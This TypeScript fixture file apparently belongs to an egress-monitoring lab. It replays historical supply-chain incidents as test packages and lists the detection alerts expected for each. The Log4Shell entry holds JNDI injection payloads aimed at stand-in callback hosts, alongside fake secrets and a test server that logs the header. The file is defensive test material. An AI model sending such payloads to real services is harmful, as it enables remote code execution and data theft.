import type { Incident } from './incident.js';

/** A request with three headers that a logger looks up. */
const HEADER_TEST = `const http = require('node:http');
const log = require('header-look-up');
const client = require('api-client');
const headers = process.env.LAB_HEADERS?.split(' ') ?? ['1.0'];
const server = http.createServer(async (request, answer) => {
  await log(String(request.headers['x-api-version']));
  answer.end();
});
server.listen(0, '127.0.0.1', async () => {
  for (const value of headers) {
    await new Promise((done) => {
      const options = { port: server.address().port, headers: { 'x-api-version': value } };
      http.get(options, (answer) => answer.resume().on('end', done));
    });
  }
  await client();
  server.close();
});
`;

/** Up to 2024, the earliest first. */
export const INCIDENTS_TO_2024: readonly Incident[] = [
  {
    slug: 'paste-and-eval',
    incident: 'eslint-scope 3.7.2, 2018',
    runsAt: 'postinstall',
    phase: 'install',
    signs: ['ND', 'AD'],
    lifecycle: 'postinstall',
    unlocked: [],
    observed: [
      'high: first-egress-of-package + new-destination + new-package-for-destination: count.hits-counter.example:80/http paste-site.example:443/tls stats.partner.example:443/tls: paste-and-eval@1.0.1',
    ],
    enforced: [
      'high: blocked: stats.partner.example: paste-and-eval@1.0.1',
      'high: first-egress-of-package + blocked + new-destination: count.hits-counter.example paste-site.example: paste-and-eval@1.0.1',
    ],
  },
  {
    slug: 'description-key',
    incident: 'flatmap-stream 0.1.1, 2018',
    runsAt: 'import, by `npm_package_description`',
    phase: 'test',
    signs: ['ND', 'IP', 'NP'],
    // npm 6 set it from the manifest.
    env: { npm_package_description: 'A wallet of the lab' },
    unlocked: ['medium: direct-address: 192.0.2.66:80/http: description-key@1.0.1'],
    observed: [
      'high: first-egress-of-package + new-destination + direct-address: 192.0.2.66:80/http wallet-drop.example:8080/http: description-key@1.0.1',
    ],
    enforced: [
      'high: first-egress-of-package + blocked + new-destination + direct-address: 192.0.2.66:80/none wallet-drop.example: description-key@1.0.1',
    ],
  },
  {
    slug: 'hex-labels',
    incident: 'dependency confusion, 2021',
    runsAt: 'preinstall',
    phase: 'install',
    signs: ['DT'],
    lifecycle: 'preinstall',
    unlocked: ['high: dns-tunnel: *.confused-names.example: hex-labels@1.0.1'],
    observed: [
      'critical: dns-tunnel + new-destination + first-egress-of-package: *.confused-names.example: hex-labels@1.0.1',
    ],
    enforced: [
      'critical: dns-tunnel + blocked + new-destination + first-egress-of-package: *.confused-names.example: hex-labels@1.0.1',
    ],
  },
  {
    slug: 'miner-by-country',
    incident: 'ua-parser-js 0.7.29, 2021',
    runsAt: 'preinstall, by country',
    phase: 'install',
    signs: ['IP', 'ND', 'PM'],
    lifecycle: 'preinstall',
    unlocked: [
      'critical: protocol-port-mismatch: pool.mining.example:443/stratum: miner-by-country@1.0.1',
      'medium: direct-address: 192.0.2.66:80/http: miner-by-country@1.0.1',
    ],
    observed: [
      'critical: protocol-port-mismatch + new-destination + first-egress-of-package: pool.mining.example:443/stratum: miner-by-country@1.0.1',
      'high: first-egress-of-package + new-destination + direct-address: 192.0.2.66:80/http geo.where-am-i.example:80/http: miner-by-country@1.0.1',
    ],
    enforced: [
      'high: first-egress-of-package + blocked + new-destination + direct-address: 192.0.2.66:80/none geo.where-am-i.example pool.mining.example: miner-by-country@1.0.1',
    ],
  },
  {
    slug: 'header-look-up',
    incident: 'Log4Shell, 2021',
    runsAt: 'a request header in a test',
    phase: 'test',
    signs: ['NP', 'PM', 'DT'],
    version: '1.0.0',
    env: {
      LAB_HEADERS: [
        `$\{jndi:ldap://ldap.callback.example/a}`,
        `$\{jndi:rmi://rmi.callback.example/a}`,
        `$\{jndi:dns://env.callback.example/a}`,
      ].join(' '),
      LAB_CLOUD_SECRET:
        'EXAMPLE-SECRET-abcdefghijklmnopqrstuvwxyz EXAMPLE-KEY-ID EXAMPLE-TOKEN-0123456789 builder@build-host.example',
    },
    test: HEADER_TEST,
    unlocked: [
      'critical: protocol-port-mismatch + dns-tunnel: ldap.callback.example:1389/ldap: header-look-up@1.0.0',
      'critical: protocol-port-mismatch + dns-tunnel: rmi.callback.example:1099/rmi: header-look-up@1.0.0',
      'medium: dns-tunnel: *.callback.example: header-look-up@1.0.0',
      'medium: protocol-port-mismatch + dns-tunnel: ldap.callback.example:8180/http: header-look-up@1.0.0',
    ],
    observed: [
      'critical: protocol-port-mismatch + dns-tunnel + new-destination + first-egress-of-package: ldap.callback.example:1389/ldap: header-look-up@1.0.0',
      'critical: protocol-port-mismatch + dns-tunnel + new-destination + first-egress-of-package: rmi.callback.example:1099/rmi: header-look-up@1.0.0',
      'high: dns-tunnel + new-destination + first-egress-of-package: *.callback.example: header-look-up@1.0.0',
      'high: protocol-port-mismatch + dns-tunnel + new-destination + first-egress-of-package: ldap.callback.example:8180/http: header-look-up@1.0.0',
    ],
    enforced: [
      'high: dns-tunnel + blocked + new-destination + first-egress-of-package: *.callback.example: header-look-up@1.0.0',
    ],
  },
  {
    slug: 'chunk-labels',
    incident: 'torchtriton, 2022',
    runsAt: 'import',
    phase: 'test',
    signs: ['DT', 'TLD'],
    unlocked: ['high: dns-tunnel + risky-tld: *.egresslock-lab-wheels.cfd: chunk-labels@1.0.1'],
    observed: [
      'critical: dns-tunnel + risky-tld + new-destination + first-egress-of-package: *.egresslock-lab-wheels.cfd: chunk-labels@1.0.1',
    ],
    enforced: [
      'critical: dns-tunnel + risky-tld + blocked + new-destination + first-egress-of-package: *.egresslock-lab-wheels.cfd: chunk-labels@1.0.1',
    ],
  },
  {
    slug: 'key-in-headers',
    incident: '@solana/web3.js 1.95.6, 2024',
    runsAt: 'key use',
    phase: 'test',
    signs: ['ND', 'TLD'],
    unlocked: ['low: risky-tld: rpc-partner-egresslock-lab.xyz:443/tls: key-in-headers@1.0.1'],
    observed: [
      'high: new-destination + risky-tld: rpc-partner-egresslock-lab.xyz:443/tls: key-in-headers@1.0.1',
    ],
    enforced: [
      'high: blocked + risky-tld + new-destination: rpc-partner-egresslock-lab.xyz: key-in-headers@1.0.1',
    ],
  },
  {
    slug: 'trusted-binary',
    incident: 'ultralytics 8.3.41, 2024',
    runsAt: 'runtime',
    phase: 'test',
    signs: ['NP', 'PM', 'AD'],
    unlocked: ['critical: protocol-port-mismatch: pool.mining.example:8080/stratum: trusted-binary@1.0.1'],
    observed: [
      'critical: protocol-port-mismatch + new-destination + first-egress-of-package: pool.mining.example:8080/stratum: trusted-binary@1.0.1',
      'high: new-package-for-destination + first-egress-of-package: api.codehost.example:443/tls: trusted-binary@1.0.1',
    ],
    enforced: [
      'high: first-egress-of-package + blocked + new-destination + new-package-for-destination: api.codehost.example:443/tls pool.mining.example: trusted-binary@1.0.1',
    ],
  },
];
